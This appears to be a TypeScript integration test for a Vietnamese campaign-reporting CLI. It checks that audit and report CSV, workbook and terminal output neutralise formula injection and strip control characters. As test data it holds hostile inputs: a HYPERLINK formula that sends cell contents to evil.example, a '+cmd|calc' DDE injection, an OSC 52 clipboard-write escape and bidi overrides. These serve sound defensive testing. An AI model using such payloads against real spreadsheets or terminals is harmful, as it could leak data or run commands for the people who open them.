// Issue 15 through the real command line, a real worker and a real dev server: actors, reasons, notes and unit
// names that are spreadsheet formulas or terminal escape sequences. The command line cleans typed text before
// sending it (escape sequences and control characters removed: core/text/typed.ts; the workflows would refuse
// them), so what is recorded is the clean text, formulas included. The audit CSV, the report CSV and the workbook
// neutralise every formula-like text cell; status, audit and report text reach the terminal without control
// characters; the JSON stays exact (escaped, never stripped).
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { AuditTrail } from '../../client/audit';
import type { StatusResult } from '../../client/commands/status';
import { CliHarness, FIXTURES, findNode as find, until, upcomingCampaign } from '../cli/harness';

const h = new CliHarness('hostile-read-cli');
let campaignId: string;
let file: string;

const LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
const OSC52 = '\x1b]52;c;ZWNobyBwd25lZA==\x07';
const ACTOR_ESC = `@SUM(1)${OSC52}\u202Egnol\u202C\x9b2J`;
const REASON = 'lý do\r\n\x1b[2J\x07giả mạo';
/** What the command line sends of them: whole escape sequences, bidi and control characters gone. */
const ACTOR_CLEAN = '@SUM(1)gnol';
const REASON_CLEAN = 'lý do\ngiả mạo';
const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
/** What must never reach a terminal: C0 but space, DEL, C1, bidi and line separators, OSC payloads. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is looked for
const UNSAFE = /[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]|52;c;/;

beforeAll(async () => {
  await h.start();
  ({ campaignId, file } = upcomingCampaign(h, 'hostile-read'));
  // Unit names a spreadsheet would read as formulas.
  const text = readFileSync(file, 'utf8')
    .replace('name: Sở Nội vụ,', `name: '=1+2 Sở Nội vụ',`)
    .replace('name: Xã Hợp Đức,', `name: '@Xã Hợp Đức',`);
  writeFileSync(file, text);
}, 180_000);
afterAll(() => h.stop());

function lines(text: string): string[] {
  return text.split(/\n/).map((l) => l.replace(/\r$/, ''));
}

function expectPrintable(text: string): void {
  for (const l of lines(text)) expect(l).not.toMatch(UNSAFE);
}

async function ok(...args: string[]): Promise<string> {
  const r = await h.cli(...args);
  if (r.code !== 0) throw new Error(`dondoc ${args.join(' ')} exited ${r.code}\n${r.out}\n${r.err}`);
  return r.out;
}

it('runs a campaign acted on by hostile actors, reasons and notes', async () => {
  await h.json(0, 'start', file, '--by', LINK);
  const plan = path.join(FIXTURES, 'plan.yaml');
  await h.json(0, 'submit', campaignId, 'so-noi-vu', 'ke-hoach', plan, '--by', LINK, '--note', '+cmd|calc');
  await h.json(0, 'submit', campaignId, 'tan-yen', 'ke-hoach', plan, '--by', ACTOR_ESC, '--note', '-2+3');
  await h.json(0, 'waive', campaignId, 'luc-nam', 'ke-hoach', '--by', '-x', '--reason', REASON);
  await until({
    what: 'the province total to count the two plans and the waiver',
    probe: () => h.json<StatusResult>(0, 'status', campaignId),
    done: (s) =>
      s.root.completeness['ke-hoach']?.submitted === 2 && s.root.completeness['ke-hoach']?.waived === 1,
    timeoutMs: 60_000,
  });
}, 180_000);

it('neutralises every formula-like cell of the audit CSV', async () => {
  const csv = await ok('audit', campaignId, '--format', 'csv');
  const rows = parseCsv(csv, { bom: true, columns: true }) as Record<string, string>[];
  for (const row of rows) {
    for (const [k, v] of Object.entries(row))
      if (k !== 'seq' && k !== 'eventId') expect(v).not.toMatch(FORMULA);
  }
  const submitted = rows.filter((r) => r.kind === 'submitted');
  expect(submitted.find((r) => r.unitId === 'so-noi-vu')).toMatchObject({
    actor: `'${LINK}`,
    note: `'+cmd|calc`,
  });
  expect(submitted.find((r) => r.unitId === 'tan-yen')).toMatchObject({
    actor: `'${ACTOR_CLEAN}`,
    note: `'-2+3`,
  });
  expect(rows.find((r) => r.kind === 'waived')).toMatchObject({ actor: `'-x`, reason: REASON_CLEAN });
  expect(rows.find((r) => r.kind === 'campaign-started')).toMatchObject({ actor: `'${LINK}` });
}, 120_000);

it('keeps the audit JSON exact', async () => {
  const trail = await h.json<AuditTrail>(0, 'audit', campaignId);
  const submitted = trail.entries.filter((e) => e.kind === 'submitted');
  expect(submitted.find((e) => e.unitId === 'tan-yen')).toMatchObject({ actor: ACTOR_CLEAN, note: '-2+3' });
  expect(trail.entries.find((e) => e.kind === 'waived')).toMatchObject({ actor: '-x', reason: REASON_CLEAN });
  const raw = (await h.cli('audit', campaignId, '--json')).out;
  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is looked for
  expect(raw).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]/);
}, 120_000);

it('prints the audit, status and report text without control characters', async () => {
  const audit = await ok('audit', campaignId);
  expectPrintable(audit);
  expect(audit).toContain('bởi @SUM(1)gnol');
  expect(audit).toContain('Miễn ke-hoach bởi -x: lý do giả mạo');

  const status = await ok('status', campaignId);
  expectPrintable(status);
  expect(status).toContain('bởi @SUM(1)gnol');
  expect(status).toContain('=1+2 Sở Nội vụ [so-noi-vu]');
  const json = await h.json<StatusResult>(0, 'status', campaignId);
  const tanYen = find(json.root, 'tan-yen')?.milestones.find((m) => m.id === 'ke-hoach');
  expect(tanYen?.submittedBy).toBe(ACTOR_CLEAN);

  expectPrintable(await ok('report', campaignId, '--out', path.join(h.dir, 'bao-cao-text.xlsx')));
}, 120_000);

it('neutralises unit names in the report CSV and workbook', async () => {
  const csv = await ok('report', campaignId, '--format', 'csv');
  const rows = parseCsv(csv, { bom: true, columns: true }) as Record<string, string>[];
  expect(rows.find((r) => r.unitId === 'so-noi-vu')?.unitName).toBe(`'=1+2 Sở Nội vụ`);
  expect(rows.find((r) => r.unitId === 'hop-duc')?.unitName).toBe(`'@Xã Hợp Đức`);
  for (const row of rows) {
    for (const [k, v] of Object.entries(row))
      if (!/^[\d.]+$/.test(v) || k === 'unitName') expect(v).not.toMatch(FORMULA);
  }

  const out = path.join(h.dir, 'bao-cao.xlsx');
  await ok('report', campaignId, '--out', out);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(out);
  const texts: string[] = [];
  for (const ws of wb.worksheets) {
    ws.eachRow((r) =>
      r.eachCell((c) => {
        expect(c.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof c.value === 'string') texts.push(c.value);
      }),
    );
  }
  expect(texts).toContain(`'=1+2 Sở Nội vụ`);
  for (const t of texts) expect(t).not.toMatch(FORMULA);
}, 120_000);
